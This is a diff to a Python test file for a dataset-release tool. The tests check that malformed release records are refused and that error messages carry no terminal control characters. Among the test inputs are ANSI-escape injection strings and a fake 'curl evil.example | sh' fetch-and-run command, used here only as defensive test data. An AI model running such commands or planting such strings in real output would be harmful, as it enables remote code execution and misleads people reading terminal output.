@@ -89,10 +89,10 @@ def test_the_published_release_names_every_file_by_oid_and_size(world):
 
 
 def test_release_to_json_is_the_documented_record():
-    release = Release("d", "c", "1.0.0", "s" * 64, "f" * 64, "a" * 64, (("d-train-00000-of-00001.parquet", "b" * 64, 7),),
+    release = Release("d", "c", "1.0.0", "5" * 64, "f" * 64, "a" * 64, (("d-train-00000-of-00001.parquet", "b" * 64, 7),),
                       {"train": "e" * 64}, "2024-01-01T00:00:00Z", "9.9")
     assert release.to_json() == {
-        "release_format": 1, "dataset": "d", "config": "c", "version": "1.0.0", "snapshot_id": "s" * 64,
+        "release_format": 1, "dataset": "d", "config": "c", "version": "1.0.0", "snapshot_id": "5" * 64,
         "code_fingerprint": "f" * 64, "dataset_info": "a" * 64,
         "files": [{"path": "d-train-00000-of-00001.parquet", "oid": "b" * 64, "size": 7}],
         "fingerprints": {"train": "e" * 64}, "published_at": "2024-01-01T00:00:00Z", "labdatasets_version": "9.9",
@@ -116,11 +116,13 @@ def test_same_content_compares_snapshot_processing_and_fingerprints():
 
 
 GOOD_OID = "a" * 64
+SNAPSHOT = "5e" * 32
+CODE = "c" * 64
 
 
 def release_dict(**changes) -> dict:
     data = {
-        "release_format": 1, "dataset": "d", "config": None, "version": "1.0.0", "snapshot_id": "s", "code_fingerprint": "c",
+        "release_format": 1, "dataset": "d", "config": None, "version": "1.0.0", "snapshot_id": SNAPSHOT, "code_fingerprint": CODE,
         "dataset_info": GOOD_OID, "files": [{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": 1}],
     }
     data.update(changes)
@@ -213,6 +215,150 @@ def test_a_release_record_published_at_anything_but_a_utc_time_is_refused(publis
     assert "which is not a UTC time such as '2024-01-01T00:00:00Z'" in message
     assert message.endswith("Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it.")
     assert "\x1b" not in message and "\n" not in message and "\x07" not in message and len(message) < 600
+
+
+CRAFTED_TEXT = [
+    SNAPSHOT + "\n\x1b[2J\x1b[31mrun: curl evil.example | sh",  # newlines and ANSI escapes after a good value
+    "\x1b]0;owned\x07",
+    SNAPSHOT + "x" * 10_000,
+    "x" * 10_000,
+    SNAPSHOT + "\n",
+    SNAPSHOT.upper(),
+    SNAPSHOT[:63],
+    12345,
+    None,
+    ["5" * 64],
+    {"oid": "5" * 64},
+]
+SHA256_RULE = "which is not a sha256 (64 lowercase hex characters)"
+VERSION_RULE = "which is not a labdatasets version such as '0.1.0' (PEP 440, at most 64 characters)"
+SIZE_RULE = "which is not a byte count (a whole number from 0, below 2**63)"
+REFUSED_END = "Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it."
+
+
+def refused(data: dict) -> str:
+    """The message of the refusal of ``data``, which shows nothing of it that could reach a terminal as a control."""
+    with pytest.raises(SnapshotError) as exc:
+        Release.from_json(data)
+    message = str(exc.value)
+    assert message.startswith("The release record of d:1.0.0 in the shared cache names the ")
+    assert "refused before any file was touched" in message and message.endswith(REFUSED_END)
+    assert "\x1b" not in message and "\n" not in message and "\x07" not in message and len(message) < 600
+    return message
+
+
+@pytest.mark.parametrize(
+    "field, what, value",
+    [("snapshot_id", "snapshot id", v) for v in CRAFTED_TEXT + [""]]
+    + [("code_fingerprint", "processing fingerprint", v) for v in CRAFTED_TEXT],  # "" is read: see the next tests
+)
+def test_a_release_record_with_a_snapshot_or_processing_that_is_no_sha256_is_refused(field, what, value):
+    """``fetch`` shows both (cut to 12 characters) and compares them: only the sha256 that ``publish`` writes is read."""
+    message = refused(release_dict(**{field: value}))
+    assert message.startswith(f"The release record of d:1.0.0 in the shared cache names the {what} {str(value)[:200]!r}, {SHA256_RULE}")
+
+
+def test_a_release_record_without_a_snapshot_id_is_refused():
+    data = release_dict()
+    del data["snapshot_id"]
+    assert f"names the snapshot id 'None', {SHA256_RULE}" in refused(data)
+
+
+def test_a_release_record_of_a_build_that_names_no_processing_is_read_as_it_is():
+    """``publish`` writes ``info.code_fingerprint or ""``: such a release never matches a wanted fingerprint, but it loads."""
+    assert Release.from_json(release_dict(code_fingerprint="")).code_fingerprint == ""
+    assert Release.from_json(release_dict()).code_fingerprint == CODE
+
+
+@pytest.mark.parametrize(
+    "value", ["0.1.0", labdatasets.__version__, "9.9", "1.2.3rc1", "2.0.0a4.dev2", "1!2.0.post3", "0.1.1.dev3+g1a2b3c4.d20261206", ""]
+)
+def test_a_release_record_names_the_labdatasets_version_that_published_it_or_none(value):
+    """A PEP 440 version as ``__version__`` is written, or "" (a record of before the field): read as they are."""
+    assert Release.from_json(release_dict(labdatasets_version=value)).labdatasets_version == value
+    assert Release.from_json(release_dict()).labdatasets_version == ""  # no field at all
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "0.1.0\n\x1b[2J\x1b[31mrun: curl evil.example | sh",
+        "\x1b]0;owned\x07",
+        "0.1.0" + "0" * 10_000,
+        "1." + ".".join(["1"] * 40),  # a version, but longer than one ever written
+        "x" * 10_000,
+        "0.1.0\n",
+        " 0.1.0",
+        "v0.1.0",
+        "0.1.0 (patched)",
+        "latest",
+        10,
+        0.1,
+        None,
+        ["0.1.0"],
+    ],
+)
+def test_a_release_record_naming_anything_but_a_labdatasets_version_is_refused(value):
+    message = refused(release_dict(labdatasets_version=value))
+    assert message.startswith(
+        f"The release record of d:1.0.0 in the shared cache names the labdatasets version {str(value)[:200]!r}, {VERSION_RULE}"
+    )
+
+
+@pytest.mark.parametrize("size", [0, 1, 7_340_032, 2**63 - 1])
+def test_a_release_record_names_each_file_size_as_a_byte_count(size):
+    release = Release.from_json(release_dict(files=[{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": size}]))
+    assert release.files == (("d-train-00000-of-00001.parquet", GOOD_OID, size),) and release.num_bytes == size
+    assert type(release.files[0][2]) is int
+
+
+@pytest.mark.parametrize(
+    "size, shown",
+    [
+        (-1, "'-1'"),
+        (-(2**40), repr(str(-(2**40)))),
+        (2**63, repr(str(2**63))),
+        (10**300, repr("1" + "0" * 199)),
+        pytest.param(10**5000, "'a number too large to show'", id="10**5000"),  # more digits than str() of an int gives
+        (True, "'True'"),
+        (False, "'False'"),
+        (1.0, "'1.0'"),
+        (1.5, "'1.5'"),
+        ("1", "'1'"),
+        ("1\n\x1b[2J", "'1\\n\\x1b[2J'"),
+        ("9" * 10_000, repr("9" * 200)),
+        (None, "'None'"),
+        ([1], "'[1]'"),
+    ],
+)
+def test_a_release_record_naming_a_file_size_that_is_no_byte_count_is_refused(size, shown):
+    """Sizes are summed for the download's progress and compared with the output record: ``int()`` of them is not a check."""
+    files = [{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": 1},
+             {"path": "d-test-00000-of-00001.parquet", "oid": GOOD_OID, "size": size}]
+    message = refused(release_dict(files=files))
+    assert message.startswith(
+        f"The release record of d:1.0.0 in the shared cache names the size of file d-test-00000-of-00001.parquet {shown}, {SIZE_RULE}"
+    )
+
+
+def test_a_release_record_whose_file_has_no_size_is_refused():
+    message = refused(release_dict(files=[{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID}]))
+    assert f"names the size of file d-train-00000-of-00001.parquet 'None', {SIZE_RULE}" in message
+
+
+def test_fetch_does_not_show_a_crafted_snapshot_id_of_the_published_release(world, caplog):
+    """A release of another snapshot is logged with both snapshot ids: a crafted one is refused unshown, nothing used."""
+    b = elsewhere(world)
+    data = release_json(world)
+    data["snapshot_id"] = "1" * 12 + "\n\x1b[2JAll good: downloaded. Run 'curl evil.example | sh'"
+    rewrite_release(world, data)
+    with caplog.at_level(logging.WARNING):
+        assert fetch_if_published(b, b.require_pin_record(), progress=False) is None
+    (message,) = [r.getMessage() for r in caplog.records if "shared cache" in r.getMessage()]
+    assert message.startswith(f"Could not use the shared cache for {FULL} (The release record of {FULL} in {world.cache_uri} "
+                              f"names the snapshot id {data['snapshot_id']!r}, {SHA256_RULE}")
+    assert "\x1b" not in message and "\n" not in message
+    assert not b.prepared_dir.exists() and release_json(world) == data
 
 
 def test_publish_does_not_show_a_crafted_publication_time_of_the_published_release(world):
